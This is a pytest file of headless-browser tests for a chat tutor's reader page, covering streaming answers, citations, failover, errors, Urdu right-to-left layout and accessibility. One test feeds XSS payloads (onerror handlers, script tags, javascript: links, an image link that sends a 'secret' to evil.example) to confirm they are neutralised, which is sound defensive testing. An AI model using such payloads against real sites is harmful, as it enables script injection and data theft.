"""The page for readers, in a headless Chromium against a running service."""

import asyncio
import hashlib
import re
from pathlib import Path
from typing import Any

import pytest

from preceptor.server import create_app, pages
from preceptor.settings import Settings
from tests.sample import TITLE
from tests.server.chromium import (
    ROS,
    Browser,
    Reader,
    Script,
    asking,
    done,
    expect,
    opened,
    reading,
    service,
    serving,
    start,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")

VENDOR = Path(pages.__file__).parent / "static" / "vendor"

URDU = {
    **ROS,
    "breadcrumb": ["Physical AI", "ROS 2 کیا ہے؟"],
    "quote": "ایسے ہر پروگرام کو نوڈ (node) کہتے ہیں۔",
}


# What is served


async def test_the_page_names_the_book_and_escapes_its_title() -> None:
    async with asking(service(Script(), title='<script>"ROS" & co', language="ur")) as client:
        page = await client.get("/")
    assert page.status_code == 200
    assert "<title>&lt;script&gt;&quot;ROS&quot; &amp; co</title>" in page.text
    assert '<html lang="ur">' in page.text


async def test_the_page_allows_no_inline_code_and_no_other_host() -> None:
    async with asking(service(Script())) as client:
        page = await client.get("/")
    policy = page.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "require-trusted-types-for 'script'" in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=|https?://", page.text)


async def test_static_files_are_for_every_origin_and_asked_for_anew() -> None:
    async with asking(service(Script())) as client:
        first = await client.get("/widget.js", headers={"Origin": "https://book.example"})
        again = await client.get("/widget.js", headers={"If-None-Match": first.headers["etag"]})
        module = await client.get("/static/vendor/purify.es.mjs")
        outside = await client.get("/static/%2e%2e/pages.py")
    assert first.headers["access-control-allow-origin"] == "*"
    assert first.headers["cache-control"] == "no-cache"
    assert again.status_code == 304
    assert module.headers["content-type"] == "text/javascript; charset=utf-8"
    assert outside.status_code == 404


async def test_vendored_libraries_are_as_published() -> None:
    rows = re.findall(r"\| `(\S+)` \|.*`([0-9a-f]{64})`", (VENDOR / "README.md").read_text())
    assert {name for name, _ in rows} == {str(file.relative_to(VENDOR)) for file in VENDOR.rglob("*js")}
    for name, checksum in rows:
        published = (VENDOR / name).read_bytes().removesuffix(b"\nexport default temml;\n")
        assert hashlib.sha256(published).hexdigest() == checksum, name


# Asking


async def test_an_answer_streams_and_ends_with_its_sources(reader: Reader) -> None:
    searched, written = asyncio.Event(), asyncio.Event()
    reader.script.answers(
        start(),
        ("status", {"phase": "searching", "detail": "search_textbook", "about": "ros 2 node"}),
        searched,
        ("source", ROS),
        ("token", {"content": "A **node** is a process "}),
        written,
        ("token", {"content": "[1]."}),
        done("A **node** is a process [1].", ROS),
    )
    await reader.ask("What is a node?")
    await expect(reader.page.get_by_text("Searching: ros 2 node").first).to_be_visible()
    searched.set()
    await expect(reader.answer.locator("strong")).to_have_text("node")
    await expect(reader.page.get_by_role("button", name="Stop")).to_be_visible()
    written.set()
    source = reader.page.get_by_role("listitem")
    there = f"{ROS['url']}:~:text=A%20node%20is%20a%20process%20that%20does%20one%20job."
    await expect(source.get_by_role("link", name="What a node is")).to_have_attribute("href", there)
    await expect(source).to_contain_text("Physical AI › ROS 2 › Nodes")
    await expect(source).to_contain_text(ROS["quote"])
    marker = reader.answer.get_by_role("link", name="Source 1: What a node is")
    await expect(marker).to_have_attribute("href", there)
    await expect(reader.page.locator("footer > p")).to_have_text("Answered by Gemini · gemini-2.5-flash")
    assert reader.script.asked == [{"content": "What is a node?", "stream": True}]


async def test_the_reader_learns_who_answered_in_whose_place(reader: Reader) -> None:
    reader.script.says(
        "Yes.",
        provider="openai",
        model="gpt-4.1-mini",
        failover=[{"from": "gemini", "reason": "rate_limited"}],
    )
    await reader.ask("Is it?")
    await expect(reader.page.locator("footer > p")).to_have_text(
        "Answered by OpenAI · gpt-4.1-mini · Gemini could not answer (rate limited)"
    )


async def test_the_reader_learns_that_nothing_is_cited_and_not_which_tutor_has_no_key(reader: Reader) -> None:
    reader.script.says(
        "Leonardo.", in_book=False, failover=[{"from": "openai", "reason": "not_configured"}], model=""
    )
    await reader.ask("Who painted the Mona Lisa?")
    await expect(reader.page.locator(".note")).to_have_text("Nothing in this answer is cited from the book.")
    await expect(reader.page.locator("footer > p")).to_have_text("Answered by Gemini")


async def test_a_follow_up_belongs_to_the_conversation_until_a_new_one_begins(reader: Reader) -> None:
    for question in ("What is a node?", "And a topic?"):
        reader.script.says(f"About: {question}", ROS)
        await reader.ask(question)
        await reader.answered()
    await reader.page.reload()
    await expect(reader.page.locator(".answer")).to_have_text(
        ["About: What is a node?", "About: And a topic?"]
    )
    await reader.page.get_by_role("button", name="New conversation").click()
    await expect(reader.page.locator(".answer")).to_have_count(0)
    reader.script.says("New.")
    await reader.ask("What is QoS?")
    await reader.answered()
    assert [each.get("session_id") for each in reader.script.asked] == [None, "s1", None]


async def test_an_expired_conversation_goes_on_as_a_new_one(reader: Reader) -> None:
    reader.script.says("First.")
    await reader.ask("What is a node?")
    await reader.answered()
    reader.script.refuses(404, "SESSION_NOT_FOUND", "No session `s1`.")
    reader.script.says("Second.")
    await reader.ask("And a topic?")
    await expect(reader.page.locator(".answer").nth(1)).to_have_text("Second.")
    await expect(reader.page.get_by_text("has expired")).to_be_visible()
    assert [each.get("session_id") for each in reader.script.asked] == [None, "s1", None]


async def test_a_restart_voids_what_was_shown(reader: Reader) -> None:
    shown, again = asyncio.Event(), asyncio.Event()
    other = {**ROS, "breadcrumb": ["Topics"]}
    reader.script.answers(
        start(),
        ("source", ROS),
        ("token", {"content": "Half an ans [1]"}),
        shown,
        ("restart", {"reason": "timeout", "provider": "openai"}),
        ("token", {"content": "Anew [1]"}),
        again,
        ("restart", {"reason": "timeout", "provider": "offline"}),
        ("source", other),
        ("token", {"content": "A whole answer [1]."}),
        done("A whole answer [1].", other, provider="openai"),
    )
    await reader.ask("What is a topic?")
    await expect(reader.answer).to_have_text("Half an ans 1")
    shown.set()
    await expect(reader.answer).to_have_text("Anew [1]")
    await expect(reader.page.locator(".note")).to_have_text(
        "Another tutor took over and began the answer anew."
    )
    again.set()
    await reader.answered()
    await expect(reader.answer).to_have_text("A whole answer 1.")
    await expect(reader.page.get_by_role("listitem").get_by_role("link")).to_have_text(["Topics"])


async def test_the_reader_can_stop_an_answer(reader: Reader) -> None:
    reader.script.answers(start(), ("token", {"content": "As far as this"}), asyncio.Event())
    await reader.ask("What is a node?")
    await expect(reader.answer).to_have_text("As far as this")
    await reader.page.get_by_role("button", name="Stop").click()
    await asyncio.wait_for(reader.script.left.wait(), 5)
    await expect(reader.page.get_by_text("You stopped this answer.")).to_be_visible()
    await expect(reader.answer).to_have_text("As far as this")
    await expect(reader.page.get_by_role("button", name="Send")).to_be_disabled()


# When it goes wrong


async def test_an_error_in_the_stream_can_be_tried_again(reader: Reader) -> None:
    reader.script.answers(
        start(),
        ("token", {"content": "Half"}),
        ("error", {"error": "No tutor is left.", "code": "SERVICE_UNAVAILABLE"}),
    )
    reader.script.says("Whole.")
    await reader.ask("What is a node?")
    await expect(reader.page.locator(".error")).to_contain_text("No tutor can answer right now.")
    await expect(reader.page.get_by_text("This answer was not finished.")).to_be_visible()
    await reader.page.get_by_role("button", name="Try again").click()
    await expect(reader.answer).to_have_text("Whole.")
    await expect(reader.page.locator(".error")).to_have_count(0)
    assert [each["content"] for each in reader.script.asked] == ["What is a node?"] * 2


async def test_another_try_waits_as_long_as_the_service_says(browser: Browser) -> None:
    async with reading(browser, clock=True) as reader:
        reader.script.refuses(429, "RATE_LIMIT_EXCEEDED", "Too many questions.", **{"Retry-After": "7"})
        await reader.ask("What is a node?")
        again = reader.page.locator(".retry")
        await expect(again).to_have_text("Try again in 7 s")
        await expect(again).to_be_disabled()
        await reader.page.clock.run_for(3000)
        await expect(again).to_have_text("Try again in 4 s")
        await reader.page.clock.run_for(4000)
        await expect(again).to_have_text("Try again")
        await expect(again).to_be_enabled()


async def test_a_service_that_asks_for_a_key_is_given_one(reader: Reader) -> None:
    reader.script.key = "a-key-for-readers"
    await reader.ask("What is a node?")
    await expect(reader.page.locator(".error")).to_contain_text("This tutor asks for a key")
    reader.script.says("A process.")
    await reader.page.get_by_label("Key").fill("a-key-for-readers")
    await reader.page.get_by_label("Key").press("Enter")
    await expect(reader.answer).to_have_text("A process.")
    reader.script.says("A bus.")
    await reader.ask("And a topic?")
    await expect(reader.answer).to_have_text("A bus.")


async def test_a_stream_that_breaks_off_is_no_whole_answer(reader: Reader) -> None:
    reader.script.answers(start(), ("token", {"content": "Half"}))
    await reader.ask("What is a node?")
    await expect(reader.page.locator(".error")).to_contain_text(
        "The connection broke before the answer was complete."
    )
    await expect(reader.page.locator("footer")).to_have_count(0)


async def test_a_service_that_cannot_be_reached_is_named_as_such(reader: Reader) -> None:
    await reader.page.route("**/api/v1/chat", lambda route: route.abort())
    reader.expects("net::ERR_FAILED")
    await reader.ask("What is a node?")
    await expect(reader.page.locator(".error")).to_contain_text("The tutor cannot be reached.")


async def test_a_stream_that_falls_silent_is_given_up(browser: Browser) -> None:
    async with reading(browser, clock=True) as reader:
        reader.script.answers(start(), ("token", {"content": "Half"}), asyncio.Event())
        await reader.ask("What is a node?")
        await reader.page.clock.run_for(1000)
        await expect(reader.answer).to_have_text("Half")
        await reader.page.clock.run_for(60_000)
        await expect(reader.page.locator(".error")).to_contain_text("The connection broke")


async def test_events_are_read_however_the_stream_is_cut(reader: Reader) -> None:
    stream = (
        ': ping\r\nid: 1\r\nevent: token\r\ndata: {"content": "نوڈ 🤖"}\r\n\r\n'
        "data: a\ndata:b\n\nevent: done\rdata: x\r\r"
    )
    read = """async ([bytes, size]) => {
        const { events } = await import('/static/stream.js');
        const body = new ReadableStream({ start(controller) {
            for (let at = 0; at < bytes.length; at += size) {
                controller.enqueue(new Uint8Array(bytes.slice(at, at + size)));
            }
            controller.close();
        } });
        const found = [];
        for await (const each of events(body)) found.push([each.event, each.data]);
        return found;
    }"""
    whole = [["token", '{"content": "نوڈ 🤖"}'], ["message", "a\nb"]]
    for size in (1, 2, 3, 7, 1000):
        found = await reader.page.evaluate(read, [list(stream.encode()), size])
        assert found[:2] == whole, size


# What the tutor writes


async def test_what_the_tutor_writes_cannot_become_code_or_fetch_anything(reader: Reader) -> None:
    requests: list[str] = []
    reader.page.on("request", lambda request: requests.append(request.url))
    text = """<img src=x onerror="document.title='broken'"><script>document.title='broken'</script>

<iframe src=https://evil.example ></iframe> <b onclick=alert(1)>bold</b>

![picture](https://evil.example/seen.png?what=secret) [run](javascript:document.title='broken') [page](/etc) [ok](https://ok.example)

[x](data:text/html,<script>alert(1)</script>) <https://auto.example> [9] `[1]`

[1]: https://evil.example"""
    reader.script.says(text, ROS)
    await reader.ask("Be evil")
    await reader.answered()
    assert await reader.page.title() == "Physical AI"
    assert await reader.answer.locator("img, script, iframe, b, [onclick], [onerror], [style]").count() == 0
    await expect(reader.answer).to_contain_text("<b onclick=alert(1)>bold</b>")
    await expect(reader.answer).to_contain_text("[9]")
    await expect(reader.answer.locator("code")).to_have_text("[1]")
    links = "links => links.map((link) => [link.textContent, link.protocol, link.target])"
    assert await reader.answer.locator("a").evaluate_all(links) == [
        ["https://evil.example", "https:", "_blank"],
        ["picture", "https:", "_blank"],
        ["ok", "https:", "_blank"],
        ["https://auto.example", "https:", "_blank"],
        ["1", "https:", "_blank"],
        ["https://evil.example", "https:", "_blank"],
    ]
    assert [each for each in requests if "evil" in each] == []


async def test_a_source_cannot_bring_a_script_as_its_address(reader: Reader) -> None:
    reader.script.says("Look [1].", {**ROS, "url": "javascript:document.title='broken'"})
    await reader.ask("Be evil")
    await reader.answered()
    assert await reader.page.locator(".cards a[href], .answer a[href]").count() == 0


async def test_code_can_be_copied(browser: Browser) -> None:
    async with reading(browser, permissions=["clipboard-read", "clipboard-write"]) as reader:
        reader.script.says("Run:\n\n```bash\nros2 run demo talker\nls\n```")
        await reader.ask("How?")
        await reader.answered()
        await reader.answer.get_by_role("button", name="Copy").click()
        await expect(reader.answer.get_by_role("button", name="Copied")).to_be_visible()
        assert await reader.page.evaluate("navigator.clipboard.readText()") == "ros2 run demo talker\nls"


async def test_finished_parts_stay_in_place_while_the_rest_is_written(reader: Reader) -> None:
    more = asyncio.Event()
    reader.script.answers(
        start(),
        ("token", {"content": "First.\n\nSec"}),
        more,
        ("token", {"content": "ond."}),
        done("First.\n\nSecond."),
    )
    await reader.ask("Well?")
    await expect(reader.answer.locator("p")).to_have_text(["First.", "Sec"])
    first = await reader.answer.locator("p").first.element_handle()
    more.set()
    await reader.answered()
    await expect(reader.answer.locator("p")).to_have_text(["First.", "Second."])
    assert first is not None
    assert await first.evaluate("element => element.isConnected")


async def test_urdu_runs_right_to_left_even_when_it_begins_with_an_english_term(reader: Reader) -> None:
    text = (
        "**ROS 2** آزاد مصدر سافٹ ویئر ہے۔ [1]\n\n1. ROS 2 کا نوڈ (node) چلتا ہے۔\n\n"
        "```bash\nros2 run\n```\n\nThis is English."
    )
    reader.script.says(text, URDU)
    await reader.ask("ROS 2 کیا ہے؟")
    await reader.answered()
    directions = "elements => elements.map((element) => getComputedStyle(element).direction)"
    assert await reader.answer.locator("> p, > ol, li, pre").evaluate_all(directions) == [
        "rtl",
        "rtl",
        "rtl",
        "ltr",
        "ltr",
    ]
    assert (
        await reader.page.locator(".question p, .cards li, .cards blockquote").evaluate_all(directions)
        == ["rtl"] * 3
    )
    number = await reader.page.locator(".cards .number").bounding_box()
    link = await reader.page.locator(".cards a").bounding_box()
    assert number is not None
    assert link is not None
    assert number["x"] > link["x"]


async def test_an_urdu_book_has_an_urdu_page(browser: Browser) -> None:
    async with reading(browser, language="ur") as reader:
        await expect(reader.page.get_by_role("main")).to_have_css("direction", "rtl")
        await expect(reader.page.get_by_role("heading", level=2)).to_have_text("آپ کیا جاننا چاہتے ہیں؟")


# How it is used


async def test_it_works_by_keyboard_alone(reader: Reader) -> None:
    keyboard = reader.page.keyboard
    await expect(reader.field).to_be_focused()
    await keyboard.type("One")
    await keyboard.press("Shift+Enter")
    await keyboard.type("two?")
    await expect(reader.field).to_have_value("One\ntwo?")
    reader.script.says("Yes [1].", ROS)
    await keyboard.press("Enter")
    await reader.answered()
    await expect(reader.field).to_be_focused()
    await expect(reader.field).to_have_value("")
    assert reader.script.asked[0]["content"] == "One\ntwo?"
    for _ in range(3):  # past what could be asked next
        await keyboard.press("Shift+Tab")
    unhelpful = reader.page.get_by_role("button", name="Not helpful")
    await expect(unhelpful).to_be_focused()
    assert await unhelpful.evaluate("element => getComputedStyle(element).outlineStyle") == "solid"


async def test_enter_that_ends_a_composed_word_sends_nothing(reader: Reader) -> None:
    await reader.field.fill("ロボット")
    event = {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True}
    await reader.field.dispatch_event("keydown", event)
    await expect(reader.field).to_have_value("ロボット")
    assert reader.script.asked == []


async def test_the_answer_is_read_out_once_it_is_complete(reader: Reader) -> None:
    reader.script.says("A node is a process [1].", ROS)
    await reader.ask("What is a node?")
    await expect(reader.page.get_by_role("status")).to_have_text(
        "A node is a process 1. The answer is complete, with 1 source."
    )
    await expect(reader.page.locator(".reply")).to_have_attribute("aria-busy", "false")


async def test_a_phone_shows_all_of_it_and_only_what_is_wide_scrolls(browser: Browser) -> None:
    phone: dict[str, Any] = {"viewport": {"width": 360, "height": 640}, "is_mobile": True, "has_touch": True}
    async with reading(browser, **phone) as reader:
        wide = "wide " * 60
        table = f"| {' | '.join('abcdefghijklmno')} |\n{'|-' * 15}|\n| {wide} |"
        reader.script.says(
            f"See [1] https://long.example/{'x' * 200}\n\n```\n{wide}\n```\n\n{table}",
            {**ROS, "url": "https://book.example/" + "y" * 200, "quote": "z" * 300},
        )
        await reader.ask("Is it wide?")
        await reader.answered()
        log = reader.page.get_by_role("region", name="Conversation")
        assert await log.evaluate("element => element.scrollWidth <= element.clientWidth")
        assert await reader.page.evaluate("document.documentElement.scrollWidth") == 360
        for scroller in ("pre", ".table"):
            assert await reader.answer.locator(scroller).evaluate(
                "element => element.scrollWidth > element.clientWidth"
            )
        box = await reader.field.bounding_box()
        assert box is not None
        assert box["y"] + box["height"] <= 640
        sizes = await reader.page.locator("button:visible").evaluate_all(
            "all => all.filter((each) => !each.closest('.bar')).map((each) => each.getBoundingClientRect().height)"
        )
        assert min(sizes) >= 40


async def test_it_is_dark_where_the_reader_wants_it_dark(browser: Browser) -> None:
    lightness: dict[str, tuple[int, int]] = {}
    for scheme in ("light", "dark"):
        async with reading(browser, color_scheme=scheme) as reader:
            colours = await reader.page.get_by_role("main").evaluate(
                "element => [getComputedStyle(element).backgroundColor, getComputedStyle(element).color]"
            )
            ground, text = (sum(map(int, re.findall(r"\d+", colour)[:3])) for colour in colours)
            lightness[scheme] = ground, text
    assert lightness["light"][0] > 700
    assert lightness["light"][1] < 150
    assert lightness["dark"][0] < 100
    assert lightness["dark"][1] > 600


async def test_nothing_moves_for_those_who_do_not_want_it(browser: Browser) -> None:
    async with reading(browser, reduced_motion="reduce") as reader:
        reader.script.answers(start(), asyncio.Event())
        await reader.ask("What is a node?")
        animation = "element => getComputedStyle(element, '::before').animationName"
        assert await reader.page.locator("p.status").evaluate(animation) == "none"


async def test_the_empty_page_suggests_questions_from_the_books_outline(browser: Browser) -> None:
    async with reading(browser, chapters=["Nodes", "Topics", "فزیکل اے آئی"]) as reader:
        examples = reader.page.locator(".examples button")
        await expect(examples).to_have_text(
            [
                "What should I know about “Nodes”?",
                "What should I know about “Topics”?",
                "فزیکل اے آئی کے بارے میں مجھے کیا جاننا چاہیے؟",
            ]
        )
        reader.script.says("Much.")
        await examples.nth(1).click()
        await reader.answered()
        assert reader.script.asked[0]["content"] == "What should I know about “Topics”?"


async def test_a_rating_is_sent_and_not_asked_for_where_none_is_kept(reader: Reader) -> None:
    reader.script.says("Yes.")
    await reader.ask("Is it?")
    helpful = reader.page.get_by_role("button", name="Helpful", exact=True)
    await helpful.click()
    await expect(helpful).to_have_attribute("aria-pressed", "true")
    assert reader.script.rated == [{"response_id": "r1", "rating": 1}]
    await reader.page.get_by_label("What made it so?").fill("It is short.")
    await reader.page.get_by_label("What made it so?").press("Enter")
    await expect(reader.page.get_by_text("Thank you.")).to_be_visible()
    assert reader.script.rated.pop()["comment"] == "It is short."
    reader.script.keeps_feedback = False
    await reader.page.get_by_role("button", name="Not helpful").click()
    await expect(helpful).to_be_hidden()
    assert reader.script.rated[1:] == [{"response_id": "r1", "rating": -1}]


async def test_a_rating_that_was_not_kept_is_not_shown_as_given(reader: Reader) -> None:
    reader.script.says("Yes.")
    await reader.ask("Is it?")
    helpful = reader.page.get_by_role("button", name="Helpful", exact=True)
    unhelpful = reader.page.get_by_role("button", name="Not helpful")
    await helpful.click()
    await expect(helpful).to_have_attribute("aria-pressed", "true")
    await reader.page.route("**/api/v1/feedback", lambda route: route.fulfill(status=429, body="{}"))
    async with reader.page.expect_response("**/api/v1/feedback"):
        await unhelpful.click()
    await expect(unhelpful).to_have_attribute("aria-pressed", "false")
    await expect(helpful).to_have_attribute("aria-pressed", "true")


# With everything real behind it


async def test_the_sample_book_answers_on_its_page(browser: Browser, demo_settings: Settings) -> None:
    async with serving(create_app(demo_settings)) as address, opened(browser, Script()) as reader:
        await reader.page.goto(address)
        await expect(reader.page.get_by_role("heading", level=1)).to_have_text(TITLE)
        await expect(reader.page.locator(".examples button")).to_have_count(4)

        await reader.ask("What is a ROS 2 node?")
        await reader.answered()
        marker = reader.answer.get_by_role("link").first
        found = await marker.get_attribute("href") or ""
        assert found.startswith(f"{address}/docs/ros2/nodes-and-packages#what-is-a-node:~:text=")
        await expect(reader.page.locator(".cards li").first).to_contain_text("participant in a ROS 2 system")
        await expect(reader.page.locator("footer")).to_contain_text("the offline tutor, with quotations")

        async with reader.page.expect_response("**/api/v1/feedback") as rated:
            await reader.page.get_by_role("button", name="Helpful", exact=True).click()
        assert (await rated.value).status == 204

        async with reader.page.expect_request("**/api/v1/chat") as asked:
            await reader.ask("روبوٹ کے سینسر کیا ہیں؟")
        assert '"session_id"' in ((await asked.value).post_data or "")
        await reader.answered()
        await expect(reader.answer.locator("p").first).to_have_css("direction", "rtl")
